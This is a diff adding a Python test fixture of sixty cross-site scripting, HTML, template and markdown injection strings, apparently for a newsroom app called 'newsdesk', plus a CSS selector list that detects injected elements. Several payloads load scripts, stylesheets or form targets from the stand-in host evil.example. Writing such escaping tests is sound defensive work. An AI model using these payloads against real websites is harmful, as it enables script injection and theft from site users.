@@ -1,0 +1,72 @@
+"""Sixty strings that must stay text wherever they are shown."""
+
+# what each would do if it were not only text: run, load, style, close what is open
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example/x>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none!important}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<form action=//evil.example/><button>Send</button></form>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<video src=//evil.example/x onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<math><mtext></p><script>alert(1)</script>",
+    "</article></div></main><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "]]><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" style="position:fixed;inset:0;background:red',
+    '" data-act="remove" data-article="',
+    "`-alert(1)-`",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% raw %}{{ 7*7 }}{% endraw %}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "![x](//evil.example/x.png)",
+    "[x](javascript:alert(1))",
+    "[x]: //evil.example/x.png",
+    "<http://evil.example/>",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "\\(\\unicode{x41}\\)",
+    "```html\n<script>alert(1)</script>\n```",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "＜script＞alert(1)＜/script＞",  # noqa: RUF001
+    "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "\u202e<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<x onclick=alert(1) style=display:block;position:fixed;inset:0>",
+    "<div data-act=purge>Purge</div>",
+    "<button type=button data-act=remove>Remove</button>",
+]
+
+# elements and attributes that newsdesk itself puts nowhere
+ALIEN = (
+    "script, style, img, svg:not(.timeline, .map), iframe, object, embed, link, form, "
+    "video, audio, base, meta, marquee, [onclick], [onmouseover], "
+    "[style]:not([data-testid=status-tracker])"
+)
